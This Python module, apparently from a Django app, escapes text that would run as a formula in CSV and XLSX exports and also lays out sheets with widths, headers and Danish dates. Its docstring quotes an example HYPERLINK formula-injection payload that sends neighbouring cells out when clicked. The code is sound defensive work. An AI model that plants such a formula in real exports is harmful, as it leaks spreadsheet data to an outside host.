"""Formula-safe CSV and XLSX cells: text from leaders, analysts or board members never runs.

A spreadsheet program runs a CSV field starting with ``= + - @`` (or a tab or carriage return,
which some programs skip before looking) as a formula: ``=HYPERLINK("https://…?"&A1, "Klik")``
in a leader's area or an action's title would send the neighbouring cells away when clicked. In
CSV such text gets a leading apostrophe (OWASP's advice; Excel shows the text as typed). In XLSX
openpyxl stores any string starting with ``=`` as a formula; there it is written as a string cell
with Excel's quote prefix, so the text is kept exactly and never evaluated.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """``value`` for a CSV field: text that a spreadsheet would run gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def append_safe(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with no cell stored as a formula.

    Each cell is made and neutralised before the row is appended: finding the new row afterwards
    through ``sheet.max_row`` scans every cell of the sheet, so n rows cost n² (the demo's 8,463
    result rows took 105 s; now 2 s — docs/benchmarks.md, issue 12 item 12)."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = value if isinstance(value, Cell) else Cell(sheet, value=value)  # type: ignore[call-arg]  # row and column are optional at run time
        if cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True
        cells.append(cell)
    sheet.append(cells)


# --- layout: widths that fit, a frozen bold header, dates as dates ---------------------------------

DATE_FORMAT = "dd-mm-yyyy"
DATETIME_FORMAT = "dd-mm-yyyy hh:mm"
MIN_WIDTH, MAX_WIDTH = 6, 60


def _display_length(value: Any) -> int:
    import datetime as dt

    if value is None:
        return 0
    if isinstance(value, dt.datetime):
        return len("31-12-2026 23:59")
    if isinstance(value, dt.date):
        return len("31-12-2026")
    if isinstance(value, float):
        return len(f"{value:.2f}")
    text = str(value)
    return max((len(line) for line in text.splitlines()), default=0)


def finish_sheet(sheet: Worksheet, header_rows: int = 1) -> None:
    """Bold, frozen header row(s); every column as wide as its widest value (capped, long text
    wraps); dates and times shown in the Danish way instead of '###' or a serial number."""
    import datetime as dt

    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    for row in sheet.iter_rows(min_row=1, max_row=header_rows):
        for cell in row:
            cell.font = Font(bold=True)
    sheet.freeze_panes = sheet.cell(row=header_rows + 1, column=1).coordinate
    widths: dict[int, int] = {}
    for row in sheet.iter_rows():
        for cell in row:
            value = cell.value
            if isinstance(value, dt.datetime):
                cell.number_format = DATETIME_FORMAT
            elif isinstance(value, dt.date):
                cell.number_format = DATE_FORMAT
            length = _display_length(value)
            if length > MAX_WIDTH:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
            if cell.column is not None:
                widths[cell.column] = max(widths.get(cell.column, 0), length)
    for column, length in widths.items():
        sheet.column_dimensions[get_column_letter(column)].width = min(
            MAX_WIDTH, max(MIN_WIDTH, length + 2))


def local_datetime(value: Any) -> Any:
    """An ISO timestamp or aware datetime as a naive local (Danish) datetime for a cell;
    anything else unchanged. Excel has no time zones: a UTC text would be read as text."""
    import datetime as dt

    from django.utils import timezone

    if isinstance(value, str):
        try:
            value = dt.datetime.fromisoformat(value)
        except ValueError:
            return value
    if isinstance(value, dt.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.replace(tzinfo=None)
    return value
